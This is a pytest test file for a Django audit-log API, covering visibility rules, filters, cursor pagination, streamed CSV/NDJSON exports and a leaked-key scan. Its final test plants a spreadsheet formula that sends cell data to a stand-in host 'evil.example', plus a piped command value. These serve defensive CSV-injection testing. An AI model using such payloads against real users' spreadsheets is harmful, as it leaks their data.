"""GET /api/audit/logs, /export, /reports: who sees what, filters, cursor pages, streamed exports."""

import csv
import io
import json
import tracemalloc
import warnings

import pytest
from django.utils import timezone

from apps.audit.models import AuditEvent
from apps.audit.services import audit_event_record
from conftest import client_for

pytestmark = pytest.mark.django_db


def actions(response) -> list[str]:
    return [row["action"] for row in response.json()["logs"]]


@pytest.fixture
def trail(alice, bob, olivia):
    audit_event_record(action="todo.created", actor=alice, target_type="todo", target_id=1)
    audit_event_record(action="todo.deleted", actor=bob, target_type="todo", target_id=2)
    # olivia acting for alice: alice sees it too
    audit_event_record(action="tool.invoked", actor=olivia, subject=alice, target_type="tool", target_id="list_todos")
    audit_event_record(action="tool.invoked", actor=bob, outcome="failure", target_type="tool", target_id="add_todo")


def test_logs_need_authentication(anon_client):
    assert anon_client.get("/api/audit/logs").status_code == 401


def test_alice_sees_her_own_events_and_those_about_her_never_bobs(trail, alice_client):
    body = alice_client.get("/api/audit/logs").json()
    assert {row["action"] for row in body["logs"]} >= {"todo.created", "tool.invoked"}
    assert all(row["actor_label"] in {"alice", "olivia"} for row in body["logs"])
    assert "bob" not in json.dumps(body)
    assert body["total_count"] == len(body["logs"])
    export = b"".join(alice_client.get("/api/audit/export?format=ndjson").streaming_content).decode()
    assert "bob" not in export and "todo.created" in export
    report = alice_client.get("/api/audit/reports").json()
    assert "add_todo" not in json.dumps(report)


def test_auditors_and_operators_see_everyone_and_filter_by_actor(trail, audrey, olivia_client):
    auditor = client_for(audrey)
    everyone = auditor.get("/api/audit/logs?category=todo").json()
    assert sorted(row["actor_label"] for row in everyone["logs"]) == ["alice", "bob"]
    assert actions(olivia_client.get("/api/audit/logs?actor=bob&outcome=failure")) == ["tool.invoked"]
    assert actions(auditor.get("/api/audit/logs?tool=list_todos")) == ["tool.invoked"]


def test_a_user_cannot_widen_their_view_with_the_actor_filter(trail, alice_client):
    assert alice_client.get("/api/audit/logs?actor=bob").json()["logs"] == []


def test_unknown_and_malformed_filters_are_refused(alice_client):
    assert alice_client.get("/api/audit/logs?colour=red").status_code == 400
    response = alice_client.get("/api/audit/logs?since=yesterday")
    assert response.status_code == 400 and response.json()["error"]["code"] == "validation_error"
    assert alice_client.get("/api/audit/export?format=xml").status_code == 400


def test_cursor_pages_walk_everything_once(alice, alice_client):
    for n in range(7):
        audit_event_record(action="todo.updated", actor=alice, target_id=n)
    seen, cursor = [], None
    while True:
        body = alice_client.get(
            "/api/audit/logs", {"limit": 3, "action": "todo.updated", **({"cursor": cursor} if cursor else {})}
        ).json()
        seen += [row["target_id"] for row in body["logs"]]
        assert body["total_count"] == 7
        cursor = body["pagination"]["next_cursor"]
        if cursor is None:
            break
    assert seen == [str(n) for n in reversed(range(7))]


def test_time_range_filters(alice, alice_client):
    audit_event_record(action="todo.created", actor=alice)
    later = (timezone.now() + timezone.timedelta(minutes=1)).isoformat()
    assert alice_client.get("/api/audit/logs", {"since": later}).json()["logs"] == []
    assert actions(alice_client.get("/api/audit/logs", {"until": later, "action": "todo.created"})) == ["todo.created"]


def test_csv_export_has_a_header_and_every_row(trail, audrey):
    response = client_for(audrey).get("/api/audit/export?format=csv&category=tool")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row["target_id"] for row in rows) == ["add_todo", "list_todos"]


def test_the_report_counts_failures_durations_and_sign_ins(alice, alice_client):
    for duration, outcome in ((10.0, "success"), (20.0, "success"), (30.0, "failure")):
        audit_event_record(
            action="tool.invoked", actor=alice, category="tool", target_id="add_todo", outcome=outcome,
            duration_ms=duration,
        )  # fmt: skip
    audit_event_record(action="auth.login", actor=alice)
    audit_event_record(action="auth.login_failed", actor=alice, outcome="failure")
    report = alice_client.get("/api/audit/reports").json()
    (tool,) = report["per_tool"]
    assert tool["name"] == "add_todo" and tool["count"] == 3 and tool["failure_rate"] == pytest.approx(0.3333)
    assert tool["p50_ms"] == pytest.approx(20.0)
    (day,) = report["auth_success_rate"]
    assert day["attempts"] == 2 and day["success_rate"] == 0.5 and day["meets_target"] is False
    assert report["key_exposure"]["clean"] is True


def test_the_exposure_scan_finds_a_key_stored_before_masking(alice, audrey):
    event = audit_event_record(action="todo.created", actor=alice)
    from apps.audit.tests.conftest import sql

    sql("UPDATE audit_auditevent SET target_id = 'sk-proj-AAAAAAAAAAAAAAAAAAAA' WHERE id = %s", [event.pk])
    scan = client_for(audrey).get("/api/audit/reports").json()["key_exposure"]
    assert scan["clean"] is False and scan["event_ids"] == [event.pk]


def _events(user, count: int) -> None:
    now = timezone.now()
    AuditEvent.objects.bulk_create(
        [
            AuditEvent(
                created_at=now, actor_id=user.pk, actor_label=user.username, action="todo.updated", data={"n": n}
            )
            for n in range(count)
        ],
        batch_size=5000,
    )


def _export_peak(client) -> tuple[int, int]:
    """(lines, peak bytes allocated while the export streamed)."""
    response = client.get("/api/audit/export?format=ndjson")
    tracemalloc.start()
    count = 0
    for chunk in response.streaming_content:
        count += chunk.count(b"\n")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return count, peak


def test_an_export_streams_in_memory_bounded_by_its_chunk_not_its_length(alice, alice_client, monkeypatch):
    # Small keyset chunks, so that a few thousand rows are many chunks: what an export of any length
    # holds at once is one chunk, so five times the rows must not need more memory. (Proven before
    # with 100,000 rows against a fixed ceiling, which took two minutes.)
    from apps.audit import selectors

    monkeypatch.setattr(selectors, "EXPORT_CHUNK", 100)
    _events(alice, 1_000)
    short_count, short_peak = _export_peak(alice_client)
    _events(alice, 4_000)
    long_count, long_peak = _export_peak(alice_client)
    assert (short_count, long_count) == (1_000, 5_000)
    # Held at once, 5,000 rows would take about five times the peak of 1,000.
    assert long_peak < 1.5 * short_peak, (short_peak, long_peak)


def _asgi_export_peak(user, path: str) -> tuple[int, int, list[str]]:
    """(lines, peak bytes allocated while it streamed, warnings) through Django's ASGI handler, as under
    uvicorn. async_to_sync runs the view's sync work in this thread, on this test's connection."""
    from asgiref.sync import async_to_sync
    from django.test import AsyncClient

    from apps.accounts.tokens import jwt_pair_issue

    client, bearer = AsyncClient(), {"Authorization": f"Bearer {jwt_pair_issue(user=user).access}"}

    async def read() -> tuple[int, int, list[str]]:
        response = await client.get(path, headers=bearer)
        assert response.status_code == 200, response.content
        tracemalloc.start()
        count = 0
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            async for chunk in response:
                count += chunk.count(b"\n")
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return count, peak, [str(warning.message) for warning in caught]

    return async_to_sync(read)()


def test_under_asgi_an_export_streams_too_instead_of_being_read_whole_first(alice, monkeypatch):
    # Django's ASGI handler read a synchronous iterator whole (sync_to_async(list)) before sending a
    # byte, with a warning: under uvicorn an export was held in memory at once (apps.core.streaming).
    from apps.audit import selectors

    monkeypatch.setattr(selectors, "EXPORT_CHUNK", 100)
    _events(alice, 1_000)
    short_count, short_peak, short_warnings = _asgi_export_peak(alice, "/api/audit/export?format=ndjson")
    _events(alice, 4_000)
    long_count, long_peak, long_warnings = _asgi_export_peak(alice, "/api/audit/export?format=ndjson")
    assert (short_count, long_count) == (1_000, 5_000)
    assert short_warnings == long_warnings == []
    assert long_peak < 1.5 * short_peak, (short_peak, long_peak)


def test_the_admin_report_page_is_for_auditors_and_operators(trail, audrey, alice):
    from django.test import Client

    auditor = Client()
    auditor.force_login(audrey)
    page = auditor.get("/admin/audit/report/")
    assert page.status_code == 200
    text = page.content.decode()
    assert "list_todos" in text and "add_todo" in text and "clean" in text
    assert 'href="/admin/audit/report/"' in auditor.get("/admin/audit/auditevent/").content.decode()

    user = Client()
    user.force_login(alice)
    assert user.get("/admin/audit/report/").status_code in {302, 403}


FORMULA_AGENT = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def test_a_planted_formula_is_exported_as_text_in_csv_and_verbatim_in_ndjson(alice, audrey, anon_client):
    """A failed sign-in whose User-Agent is a spreadsheet formula: the auditor's CSV shows it as text."""
    anon_client.post(
        "/api/auth/token", {"username": "alice", "password": "wrong"}, format="json", HTTP_USER_AGENT=FORMULA_AGENT
    )
    audit_event_record(action="todo.created", actor=alice, target_type="todo", target_id="-1+1|cmd", data={"n": -1})
    auditor = client_for(audrey)

    rows = list(csv.DictReader(io.StringIO(_streamed(auditor.get("/api/audit/export?format=csv")))))
    failed = next(row for row in rows if row["action"] == "auth.login_failed")
    assert failed["user_agent"] == "'" + FORMULA_AGENT
    todo = next(row for row in rows if row["action"] == "todo.created")
    assert todo["target_id"] == "'-1+1|cmd" and json.loads(todo["data"]) == {"n": -1}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())

    lines = [json.loads(line) for line in _streamed(auditor.get("/api/audit/export?format=ndjson")).splitlines()]
    assert next(line for line in lines if line["action"] == "auth.login_failed")["user_agent"] == FORMULA_AGENT


def _streamed(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()
